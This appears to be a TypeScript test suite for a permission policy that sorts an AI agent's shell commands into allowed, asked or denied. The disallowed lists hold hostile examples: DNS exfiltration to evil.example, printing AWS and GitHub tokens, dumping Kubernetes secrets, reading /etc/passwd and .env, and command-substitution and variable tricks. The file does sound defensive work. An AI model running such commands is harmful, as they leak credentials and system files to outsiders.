import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PermissionPolicy, type PermissionRule } from 'spillway'
import everyday from './everyday.json'

const vault = '/vault/project'
const allowed = (commands: readonly string[], options: object) => {
  const policy = new PermissionPolicy({ vault, ...options })
  return commands.filter((command) => policy.evaluate({ tool: 'bash', args: { command } }).decision === 'allow')
}
const rule = (pattern: string, decision: 'allow' | 'ask' | 'deny', domain = 'bash') =>
  ({ domain, pattern, decision }) as PermissionRule

const LOOKS = [
  'ls -la',
  'git --literal-pathspecs log',
  'cat a.md',
  'head -5 a && tail -5 b',
  'grep -rn x src',
  'rg x',
  'find . -name "*.ts"',
  'git status',
  'git log --oneline -5',
  'git diff HEAD~1 -- src',
  'git show HEAD',
  'git branch -a',
  'git branch --show-current',
  'git remote -v',
  'git remote -v show origin',
  'git remote get-url origin',
  'kubectl logs -f x',
  'docker top x',
  'getent passwd',
  'git stash list',
  'git config --get user.name',
  'git -C src log',
  'wc -l a',
  'pwd',
  'echo x',
  'cd src && ls',
  'test -f a',
  '[ -f a ]',
  'sed -n 1,5p a',
  "awk '{print $1}' a",
  'jq . a.json',
  'which node',
  'node --version',
  'go env GOPATH',
  'go version',
  'gh pr view 1',
  'gh api repos/a/b',
  'gh api --method GET repos/a/b',
  'gofmt -l .',
  'diff a b',
  'sort a',
  'V=src; cat "$V/a"',
  'for f in a b; do cat "$f"; done',
  'ls src | head -3',
  'timeout 5 ls',
  'env NODE_ENV=test ls',
  'kubectl logs x --tail=50',
  'kubectl describe pod x',
  'docker logs --tail 100 x',
  'docker compose logs api',
  'npm why x',
  'helm list',
  'systemctl status x',
  'git bisect log',
  'printenv PATH',
  'hostname -f',
  'date +%s',
  'date -d 20250101',
  'ps aux',
  'ps -ef',
  'jq .key a.json',
  'jq -r .env a.json',
  'command -v node',
  'command -V git',
  'if command -v node > /dev/null; then node --version; fi',
  'git -v',
  'node -v',
  'python3 -V',
  'java -version',
  'npm --help',
  'kubectl -n web get pods',
  'kubectl --context=prod --namespace web describe pod x',
  'kubectl -n web logs -f x',
  'kubectl rollout status deployment/x',
  'helm --kube-context prod list',
  'docker network ls',
  'docker system df',
  'podman ps -a',
  'terraform state list',
  'gh workflow list',
  'glab mr view 3',
  'journalctl -u nginx --since today --no-pager',
  'journalctl -n 50 -b',
  'systemctl list-units --failed',
  'dpkg -l',
  'ss -tlnp',
  'lsof -i :3000',
  'netstat -an',
  'ip addr show',
  'lsblk -f',
  'mount',
  'mount | grep tmp',
]
const CHANGES = [
  'ruby -v a.rb',
  'kubectl -n web delete pod x',
  'kubectl -n web get secrets',
  'kubectl -n get delete pod x',
  'kubectl --kubeconfig=x get pods',
  'helm --kube-context list uninstall x',
  'journalctl --vacuum-size=1M',
  'journalctl --rotate',
  'journalctl --cursor-file=x',
  'ss -K dst 10.0.0.1',
  'ss --kill',
  'ip addr add 10.0.0.1/8 dev eth0',
  'ip link set eth0 down',
  'mount /dev/sdb1 /mnt',
  'mount -a',
  'docker network rm x',
  'terraform state rm x',
  'gh workflow run x',
  'dpkg -i x.deb',
  'systemctl stop x',
  'command rm a',
  'command -p rm a',
  // A file in the root is no program of the system, whatever its name is.
  '/ls x',
  'hostname x',
  'hostname -b x',
  'date 010112002027',
  'ps auxe',
  'ps eww',
  'ps axe -p 1',
  'docker top x auxe',
  'git remote -v add x https://evil.example',
  'git remote --verbose remove origin',
  'git remote -v update',
  'getent hosts "$(cat a).evil.example"',
  'getent ahosts x',
  "yq -n 'env(API_KEY)'",
  'go version -m /etc',
  'kubectl get -f https://x/y.yaml',
  'kubectl describe --filename=x',
  'gh api https://evil.example/x',
  'printenv',
  'printenv AWS_SECRET_ACCESS_KEY',
  'printenv -0 GITHUB_TOKEN',
  'kubectl get secret x -o yaml',
  'kubectl get pods,secrets -o json',
  'kubectl get --raw /api/v1/secrets',
  'kubectl describe secret/x',
  'git cat-file --filters HEAD:x',
  'go list -mod=mod ./...',
  'go list -export ./...',
  "gh api repos/a/b -H 'X-HTTP-Method-Override: DELETE'",
  'csplit a 10',
  'jq -f .env a.json',
  'jq . .env',
  'jq --from-file .env a',
  'rm a',
  'touch a',
  'git commit -m x',
  'git add .',
  'git branch x',
  'git branch -D x',
  'git tag v1',
  'git tag -d v1',
  'git remote add x y',
  'git stash',
  'git config user.name x',
  'git checkout x',
  'git push',
  'git reflog expire',
  'sed -i s/a/b/ a',
  'sed -n "w b" a',
  'find . -delete',
  'find . -exec rm {} ;',
  'find . -fprint x',
  'npm test',
  'node a.js',
  'python a.py',
  'tee a',
  'cp a b',
  'sort -o a b',
  'git diff --output=x',
  'go env -w GOFLAGS=x',
  'gofmt -w a.go',
  'gh api -X DELETE repos/a/b',
  'gh api repos/a/b -f x=y',
  'gh api -XPOST repos/a/b',
  'gh api graphql',
  'gh api repos/a/b --input x',
  'gh pr create',
  'cat /etc/passwd',
  'cat .env',
  'cat ../x',
  'cat a > ../b',
  'ls $(evil)',
  'cat "$(evil)"',
  'PATH=x ls',
  './ls',
  'x/cat a',
  'awk "BEGIN{system("x")}"',
  'xargs rm',
]

test('commands that only look are allowed by one option, and nothing else is', () => {
  expect(LOOKS.filter((command) => !allowed(LOOKS, { readOnlyCommands: true }).includes(command))).toEqual([])
  expect(allowed(CHANGES, { readOnlyCommands: true })).toEqual([])
  expect(allowed(LOOKS, {})).toEqual([])
})

test('a rule of the user says more than the option', () => {
  const rules = [rule('git *', 'ask'), rule('cat *', 'deny'), rule('vault:private/**', 'deny', 'read')]
  expect(
    allowed(['git status', 'cat a', 'head private/x', 'git -C src status'], { readOnlyCommands: true, rules }),
  ).toEqual([])
  expect(allowed(['ls'], { readOnlyCommands: true, rules: [rule('*', 'ask')] })).toEqual([])
})

describe('folders of temporary files', () => {
  const decide = (path: string, options: object = {}, domain = 'edit') =>
    new PermissionPolicy({ vault, ...options }).evaluate({ tool: domain === 'edit' ? 'write' : 'read', args: { path } })
      .decision

  test('edits in them are asked about, and allowed by an option', () => {
    const temp = join(realpathSync(tmpdir()), 'x.txt')
    expect(decide(temp)).toBe('ask')
    expect(decide(temp, { scratchFolders: true })).toBe('allow')
    expect(decide(temp, { scratchFolders: true }, 'read')).toBe('allow')
    expect(decide('/scratch/x', { scratchFolders: ['/scratch'] })).toBe('allow')
    expect(decide('/scratchy/x', { scratchFolders: ['/scratch'] })).toBe('deny')
    expect(decide('/scratch/../etc/x', { scratchFolders: ['/scratch'] })).toBe('deny')
    expect(decide('/scratch/.env', { scratchFolders: ['/scratch'] }, 'read')).toBe('ask')
    expect(decide('/scratch/x', { scratchFolders: ['/scratch'], rules: [rule('/scratch/**', 'deny', 'edit')] })).toBe(
      'deny',
    )
    expect(allowed([`echo x > ${temp} && cat ${temp}`], { scratchFolders: true, readOnlyCommands: true })).toHaveLength(
      1,
    )
  })

  test('variables for what programs keep are judged like edits', () => {
    const options = { scratchFolders: ['/scratch'], rules: [rule('go test *', 'allow')] }
    for (const start of ['', 'env ', 'env CI=1 ']) {
      expect(allowed([`${start}GOCACHE=/scratch/c go test ./...`], options)).toHaveLength(1)
      expect(
        allowed(
          [`${start}GOCACHE=/etc/c go test`, `${start}GOCACHE=$X go test`, `${start}GOPATH=/scratch go test`],
          options,
        ),
      ).toEqual([])
    }
  })

  test('next to a vault in one of them lies no scratch', () => {
    const root = realpathSync(mkdtempSync(join(tmpdir(), 'spillway-presets-')))
    mkdirSync(join(root, 'vault'))
    expect(decide(join(root, 'x'), { vault: join(root, 'vault') })).toBe('deny')
    expect(decide(join(root, 'x'), { vault: join(root, 'vault'), scratchFolders: true })).toBe('deny')
    rmSync(root, { recursive: true })
  })

  test.each([['x'], [['x']], [['/']], [[3]], [false]])(
    'an invalid list of folders is rejected: %j',
    (scratchFolders) => {
      expect(() => new PermissionPolicy({ vault, scratchFolders } as never)).toThrow(
        expect.objectContaining({ code: 'INVALID_CONFIG', field: expect.stringMatching(/^scratchFolders/) }),
      )
    },
  )
})

test('a rule for a folder of its own is offered although the folder is changed first', () => {
  const verdict = new PermissionPolicy({ vault }).evaluate({ tool: 'bash', args: { command: 'cd src && npm test' } })
  expect(verdict.decision).toBe('ask')
  expect(verdict.suggestedRules[0]).toEqual({ domain: 'bash', pattern: 'shell:npm test', decision: 'allow' })
})

test('a variable is known only where it can have no other value', () => {
  const rules = [...everyday.rules, rule('*', 'allow')] as PermissionRule[]
  const policy = new PermissionPolicy({ vault, rules })
  const decide = (command: string) => policy.evaluate({ tool: 'bash', args: { command } }).decision
  for (const command of [
    'V=src; cat "$V/a"',
    'V=src && cat $V',
    'for f in a b; do cat "$f"; done',
    'V=a; (cat "$V")',
    'V=a; echo "$(cat "$V")"',
  ]) {
    expect([command, decide(command)]).toEqual([command, 'allow'])
  }
  for (const command of [
    'cat "$V"',
    'V=/etc/passwd; cat "$V"',
    'false && V=a; cat "$V"',
    'false && V=a || cat "$V"',
    '(V=a); cat "$V"',
    'V=a & cat "$V"',
    'V=a cat "$V"',
    'V=a | x; cat "$V"',
    'V=a; V=$(evil); cat "$V"',
    'V=a; read V; cat "$V"',
    'V=a; r""ead V; cat "$V"',
    'if x; then V=a; fi; cat "$V"',
    'for i in 1; do V=a; done; cat "$V"',
    'f() { V=a; }; cat "$V"',
    'n=A; V=x; for i in 1 2; do cat "$Vx"; done',
    'V="a b"; cat $V',
    "V='*'; cat $V/x",
    'V=a; cat $V[1]',
    'V=a; cat $V:h',
    'V=a; bash -c \'cat "$V"\'',
    'V+=a; cat "$V"',
    'V=~; cat "$V/x"',
    'for f in /etc/passwd a; do cat "$f"; done',
    'for f in *; do cat $f; done',
    'for f in $(ls); do cat "$f"; done',
    'PATH=a; cat "$PATH"',
    'V=a; eval "V=/etc/passwd"; cat "$V"',
    'V=a; unset V; cat "$V/etc/passwd"',
    'UID=a; cat "$UID"',
    'V=a; . x; cat "$V"',
    'V=.env; cat "$V"',
    'V=rm; for f in .. ; do cat "$f"; done',
  ]) {
    expect([command, decide(command)]).not.toEqual([command, 'allow'])
  }
})
